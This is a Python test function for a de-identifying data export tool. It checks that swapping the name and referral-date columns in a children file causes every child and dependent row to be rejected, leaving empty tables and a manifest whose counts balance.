def test_every_child_rejected_gives_an_empty_extract_not_an_error(tmp_path, key):
    """A children file whose headers were swapped (names under referral_date):
    every child is rejected, and with them every row that depends on one. The
    export still runs: every table is empty, and the manifest accounts for
    every row read (found by the fuzz suite: it used to end in an internal
    error while pairing assessment rows with dates of birth)."""
    from tests.paths import small_clinic

    folder = small_clinic(tmp_path / "clinic", 3)
    children = pd.read_csv(folder / "children.csv", dtype=str, keep_default_na=False)
    children.rename(columns={C.DISPLAY_NAME: C.REFERRAL_DATE,
                             C.REFERRAL_DATE: C.DISPLAY_NAME}).to_csv(
        folder / "children.csv", index=False)
    manifest = export_deidentified(folder, tmp_path / "out", key_file=key)
    for table in TABLES:
        rows_in = len(pd.read_csv(folder / f"{table}.csv", dtype=str))
        exported = pd.read_csv(tmp_path / "out" / f"{table}.csv", dtype=str)
        assert len(exported) == 0
        counts = manifest.tables[table]
        assert counts.rows_in == rows_in == counts.rows_rejected + counts.rows_excluded
